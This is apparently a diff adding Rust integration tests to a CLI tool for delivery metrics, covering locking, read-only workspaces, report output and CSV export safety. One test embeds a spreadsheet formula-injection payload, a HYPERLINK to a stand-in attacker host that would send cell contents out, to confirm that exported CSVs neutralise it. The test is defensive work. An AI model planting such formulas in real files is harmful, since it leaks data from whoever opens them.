@@ -109,12 +109,14 @@ fn exit_codes_say_what_went_wrong() {
 }
 
 #[test]
-fn a_locked_workspace_is_refused() {
+fn a_locked_workspace_refuses_a_second_writer_but_can_be_read() {
     let dir = imported();
     let _held = Workspace::open(&dir.path().join(".flowgauge")).unwrap();
-    let (c, err) = code(dir.path(), &["metrics"]);
+    let (c, err) = code(dir.path(), &["import", "deploys.csv", "--kind", "deployments"]);
     assert_eq!(c, 5, "{err}");
     assert!(err.contains("in use by another flowgauge run"), "{err}");
+    // Reading takes no lock, so it neither waits for nor is refused by a writer.
+    ok(dir.path(), &["metrics"]);
 }
 
 #[test]
@@ -158,4 +160,184 @@ fn help_shows_examples_and_exit_codes() {
     let help = ok(dir.path(), &["--help"]);
     assert!(help.contains("Examples:"), "{help}");
     assert!(help.contains("Exit codes"), "{help}");
+}
+
+#[test]
+fn a_read_only_workspace_can_be_read() {
+    let dir = imported();
+    let ws = dir.path().join(".flowgauge");
+    // As copied from a read-only share: no lock file, nothing writable.
+    fs::remove_file(ws.join("lock")).unwrap();
+    set_read_only(&ws, true);
+    // Root ignores permissions; then only "no lock file is created" shows the reader's path.
+    let enforced = fs::write(ws.join("probe"), "").is_err();
+    let result = flowgauge(dir.path(), &["metrics"]);
+    let lock_created = ws.join("lock").exists();
+    let _ = fs::remove_file(ws.join("probe"));
+    set_read_only(&ws, false);
+    assert!(result.status.success(), "enforced={enforced}: {}", text(&result.stderr));
+    assert!(text(&result.stdout).contains("checkout"));
+    assert!(!lock_created, "reading created a lock file");
+}
+
+fn set_read_only(dir: &Path, read_only: bool) {
+    use std::os::unix::fs::PermissionsExt;
+    for entry in fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_file() {
+            fs::set_permissions(&path, fs::Permissions::from_mode(if read_only { 0o444 } else { 0o644 })).unwrap();
+        }
+    }
+    fs::set_permissions(dir, fs::Permissions::from_mode(if read_only { 0o555 } else { 0o755 })).unwrap();
+}
+
+#[test]
+fn a_workspace_path_that_is_a_file_is_named() {
+    let dir = project();
+    fs::write(dir.path().join("ws"), "").unwrap();
+    for args in [
+        &["--workspace", "ws", "import", "deploys.csv", "--kind", "deployments"][..],
+        &["--workspace", "ws", "metrics"],
+    ] {
+        let (c, err) = code(dir.path(), args);
+        assert_eq!(c, 5, "{args:?}: {err}");
+        assert!(err.contains("workspace ws: is a file, not a workspace directory"), "{args:?}: {err}");
+    }
+}
+
+#[test]
+fn a_report_into_a_directory_is_refused_and_leaves_nothing_behind() {
+    let dir = imported();
+    fs::create_dir(dir.path().join("out")).unwrap();
+    let (c, err) = code(dir.path(), &["report", "--out", "out"]);
+    assert_eq!(c, 2, "{err}");
+    assert!(err.contains("--out out is a directory") && err.contains("out/report.html"), "{err}");
+    let names: Vec<String> =
+        fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    assert!(!names.iter().any(|n| n.ends_with(".tmp")), "{names:?}");
+    assert_eq!(fs::read_dir(dir.path().join("out")).unwrap().count(), 0);
+    // The directory a report would be written to is gone: nothing is left either.
+    let (c, err) = code(dir.path(), &["report", "--out", "missing/report.html"]);
+    assert_eq!(c, 1, "{err}");
+    assert!(!dir.path().join("missing").exists());
+}
+
+/// A cell a spreadsheet would run: every CSV flowgauge writes must show it as text.
+const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+
+#[test]
+fn every_csv_neutralises_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    // No configured services: the file's own service names are used, as untrusted as titles.
+    fs::write(dir.path().join("flowgauge.toml"), "[analysis]\nsince = \"2025-01-01\"\nuntil = \"2025-04-01\"\n")
+        .unwrap();
+    fs::write(dir.path().join("deploys.csv"), DEPLOYS.replace("checkout", "@SUM(1+1)")).unwrap();
+    fs::write(
+        dir.path().join("changes.csv"),
+        format!(
+            "id,title,author,created_at,first_commit_at,merged_at,merge_commit_sha\n\
+             1,\"{}\",+alice,2025-01-05T10:00:00Z,2025-01-05T08:00:00Z,2025-01-05T12:00:00Z,aaa\n",
+            FORMULA_TITLE.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    ok(dir.path(), &["import", "deploys.csv", "--kind", "deployments"]);
+    ok(dir.path(), &["import", "changes.csv", "--kind", "changes", "--service", "@SUM(1+1)"]);
+    let cells = |csv: &str| -> Vec<String> {
+        csv::Reader::from_reader(csv.as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect()
+    };
+    let explain = cells(&ok(dir.path(), &["explain", "lead-time", "--format", "csv"]));
+    assert!(explain.contains(&format!("'{FORMULA_TITLE}")), "{explain:?}");
+    assert!(explain.contains(&"'+alice".to_string()), "{explain:?}");
+    let metrics = cells(&ok(dir.path(), &["metrics", "--format", "csv"]));
+    assert!(metrics.contains(&"'@SUM(1+1)".to_string()), "{metrics:?}");
+    for csv in [&explain, &metrics] {
+        assert!(!csv.iter().any(|c| c.starts_with(['=', '+', '@'])), "{csv:?}");
+    }
+    let repo = dir.path().join("repo");
+    fs::create_dir(&repo).unwrap();
+    commit_to(&repo, "a.txt", "2025-01-02T09:00:00Z");
+    let ownership = cells(&ok(dir.path(), &["ownership", "--repo", "repo", "--name=-evil", "--format", "csv"]));
+    assert!(ownership.contains(&"'-evil".to_string()), "{ownership:?}");
+}
+
+/// Commits `file` into the git repository `repo` (made if needed), at `date`.
+fn commit_to(repo: &Path, file: &str, date: &str) {
+    let git = |args: &[&str]| {
+        let out = std::process::Command::new("git")
+            .args(args)
+            .current_dir(repo)
+            .env("GIT_AUTHOR_NAME", "Alice")
+            .env("GIT_AUTHOR_EMAIL", "alice@example.com")
+            .env("GIT_COMMITTER_NAME", "Alice")
+            .env("GIT_COMMITTER_EMAIL", "alice@example.com")
+            .env("GIT_AUTHOR_DATE", date)
+            .env("GIT_COMMITTER_DATE", date)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
+    };
+    if !repo.join(".git").exists() {
+        git(&["init", "-q", "-b", "main"]);
+    }
+    fs::write(repo.join(file), file).unwrap();
+    git(&["add", "-A"]);
+    git(&["commit", "-q", "-m", &format!("Add {file}")]);
+    git(&["tag", &format!("v1.0.{}", fs::read_dir(repo).unwrap().count())]);
+}
+
+#[test]
+fn a_report_on_one_repository_shows_only_that_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    for name in ["alpha", "beta"] {
+        let repo = dir.path().join(name);
+        fs::create_dir(&repo).unwrap();
+        commit_to(&repo, "a.txt", "2025-01-02T09:00:00Z");
+        commit_to(&repo, "b.txt", "2025-01-03T09:00:00Z");
+    }
+    let window = ["--since", "2025-01-01", "--until", "2025-04-01"];
+    let report = |repo: &str| {
+        let out = flowgauge(
+            dir.path(),
+            &[&window[..], &["-v", "report", "--repo", repo, "--format", "json", "--out", "-"]].concat(),
+        );
+        assert!(out.status.success(), "{}", text(&out.stderr));
+        (text(&out.stdout), text(&out.stderr))
+    };
+    let (alpha, alpha_log) = report("alpha");
+    let (beta, beta_log) = report("beta");
+    assert!(alpha.contains("\"alpha\"") && !alpha.contains("\"beta\""), "alpha's report names beta");
+    assert!(beta.contains("\"beta\"") && !beta.contains("\"alpha\""), "beta's report names alpha");
+    assert!(alpha_log.contains(".flowgauge/repos/alpha-"), "{alpha_log}");
+    assert!(beta_log.contains(".flowgauge/repos/beta-"), "{beta_log}");
+    // Running again reuses the repository's own workspace: still one repository.
+    let (again, _) = report("beta");
+    assert!(!again.contains("\"alpha\""));
+    // An explicit workspace is the user's choice: it accumulates.
+    for repo in ["alpha", "beta"] {
+        let out = flowgauge(
+            dir.path(),
+            &[&window[..], &["--workspace", "shared", "metrics", "--repo", repo, "--format", "json"]].concat(),
+        );
+        assert!(out.status.success(), "{}", text(&out.stderr));
+    }
+    let out = flowgauge(dir.path(), &["--workspace", "shared", "metrics", "--format", "json"]);
+    let both = text(&out.stdout);
+    assert!(both.contains("\"alpha\"") && both.contains("\"beta\""), "{both}");
+}
+
+#[test]
+fn a_file_without_rows_warns_and_names_the_columns_expected() {
+    let dir = project();
+    fs::write(dir.path().join("empty.csv"), "id,opened_at\n").unwrap();
+    let out = flowgauge(dir.path(), &["import", "empty.csv", "--kind", "incidents", "--service", "checkout"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let err = text(&out.stderr);
+    assert!(err.contains("imported 0 rows from empty.csv\n"), "{err}");
+    assert!(err.contains("warning: empty.csv: no rows to import") && err.contains("id, service, opened_at"), "{err}");
 }
